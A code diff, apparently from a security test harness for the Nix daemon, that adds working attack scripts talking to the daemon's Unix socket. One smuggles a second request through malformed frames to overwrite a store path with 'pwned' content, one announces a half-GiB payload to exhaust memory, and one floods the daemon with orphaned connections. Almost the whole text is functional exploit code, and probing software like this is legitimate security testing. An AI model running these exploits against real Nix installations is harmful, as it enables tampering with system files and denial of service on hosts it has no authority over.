@@ -128,6 +128,49 @@ REPLACE: Final = (
     + "PY\n"
 )
 
+# Makes the daemon err where it has not read a request to its end, and would take what follows for requests: those of nobody's
+# judging. What follows asks for the roots of the whole host, or writes a path anew. tests/unit/sessions.py has the ways too.
+SMUGGLE: Final = r"""
+"$python/bin/python3" - "$way" "${victim-}" "$(nix-hash --type sha256 "${victim-/dev/null}" 2>/dev/null)" \
+  "fixed:r:sha256:$(nix-hash --type sha256 --base32 "${victim-/dev/null}" 2>/dev/null)" <<'PY'
+import socket, struct, sys
+way, victim, nar_hash, address = sys.argv[1:]
+def number(value): return struct.pack("<Q", value)
+def text(value): return number(len(value)) + value.encode() + b"\0" * (-len(value) % 8)
+path = "/nix/store/" + "0" * 32 + "-smuggled"
+info = text(path) + text("") + text("0" * 64) + number(0) * 2 + number(8) + number(0) * 2 + text("")
+add = number(7) + text("x") + text("fixed:nonsense" if way == "method" else "fixed:sha256") + number(0) * 2
+if victim:
+    nar = b"".join(map(text, ("nix-archive-1", "(", "type", "regular", "contents", "pwned\n", ")")))
+    follows = number(39) + text(victim) + text("") + text(nar_hash) + number(0) * 2 + number(len(nar)) + number(0) * 2
+    follows += text(address) + number(1) * 2 + number(len(nar)) + nar + number(0)
+else:
+    follows = number(14)
+ways = {
+    # No frame is read: its length is a request without fields (SyncWithGC), and what is in it the next one.
+    "method": add + number(13) + number(14) + bytes(5),
+    "add-frame": add + number(2**32) * 2,
+    "many-frame": number(44) + number(0) * 2 + number(2**32) * 2,
+    "nar-frame": number(39) + info + number(0) * 2 + number(2**32),
+}
+daemon = socket.socket(socket.AF_UNIX)
+daemon.settimeout(10)
+daemon.connect("/nix/var/nix/daemon-socket/socket")
+daemon.sendall(number(0x6E697863) + number(0x125) + number(0) * 2)
+daemon.sendall(ways[way] + follows + number(0) * 4)
+answer = b""
+try:
+    while piece := daemon.recv(65536):
+        answer += piece
+        if b"/nix/var/nix/profiles/system" in answer:
+            print("smuggled", flush=True)
+            break
+except OSError as error:
+    print(error)
+print("answered", len(answer), answer[-400:])
+PY
+"""
+
 # Makes the store writable, or its bind alone (mount(2)); an image of ours has no program for it.
 REMOUNT: Final = r"""
 "$python/bin/python3" - <<'PY'
@@ -202,6 +245,59 @@ mv -f /etc/nix/nix.conf.new /etc/nix/nix.conf
 systemctl restart nix-daemon.service
 systemctl stop nixprov-nix-daemon.service
 echo "address=$address"
+"""
+
+# Says how much memory a process of a Nix daemon has held at most, while the jobs of this moment run.
+MEMORY_WATCH: Final = r"""
+cat > /run/attack-memory.sh <<'SH'
+until [ -e /run/attack-memory-stop ]; do
+  for status in /proc/[0-9]*/status; do
+    awk '$1 == "Name:" && $2 !~ /^nix/ { exit } $1 == "VmHWM:" { print $2 }' "$status" 2>/dev/null
+  done | sort -n | tail -n 1 >> /run/attack-memory
+  sleep 0.2
+done
+SH
+rm -f /run/attack-memory /run/attack-memory-stop
+systemd-run --quiet --collect --unit=attack-memory "$(readlink -f /bin/sh)" /run/attack-memory.sh
+"""
+
+# A text of half a GiB is announced, with nothing behind it but patience.
+ANNOUNCE: Final = r"""
+"$python/bin/python3" - <<'PY'
+import socket, struct, time
+def number(value): return struct.pack("<Q", value)
+daemon = socket.socket(socket.AF_UNIX)
+daemon.connect("/nix/var/nix/daemon-socket/socket")
+daemon.sendall(number(0x6E697863) + number(0x125) + number(0) * 2 + number(1) + number(1 << 29))
+print("announced", flush=True)
+time.sleep(5)
+PY
+"""
+
+# Connections of processes that end before anybody looks whose they are.
+ENDED: Final = r"""
+"$python/bin/python3" - <<'PY'
+import os, socket, struct
+held = []
+for _ in range(150):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(10)
+    child = os.fork()
+    if child == 0:
+        s.connect("/nix/var/nix/daemon-socket/socket")
+        os._exit(0)
+    os.waitpid(child, 0)
+    try:
+        s.sendall(struct.pack("<Q", 0x6E697863))
+        if s.recv(8):
+            held.append(s)
+    except OSError:
+        pass
+print("connections", len(held))
+# The share of a container, and the share of all whom nobody knows.
+if len(held) > 64 + 16:
+    print("flooded")
+PY
 """
 
 # More builders than there are processors: each says when it starts and ends, the job counts the most at a time.
